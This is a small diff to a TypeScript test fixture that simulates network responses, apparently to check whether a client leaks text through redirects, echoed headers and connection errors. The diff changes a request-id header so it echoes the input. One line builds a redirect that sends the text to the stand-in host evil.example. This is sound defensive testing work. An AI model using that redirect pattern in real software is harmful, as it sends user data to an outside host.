@@ -46,7 +46,7 @@ const shapes: readonly [string, Step][] = [
     'a redirect that echoes',
     echo(307, (text) => ({ headers: { location: `https://evil.example/?${encodeURIComponent(text)}` } })),
   ],
-  ['a request id that echoes', echo(404, () => ({ headers: { 'x-request-id': 'r-1' }, text: '' }))],
+  ['a request id that echoes', echo(404, (text) => ({ headers: { 'x-request-id': text }, text: '' }))],
   ['a reset', fails('ECONNRESET', 'read')],
   ['a refusal to connect', fails('ECONNREFUSED', 'connect')],
   ['a certificate', fails('CERT_HAS_EXPIRED')],
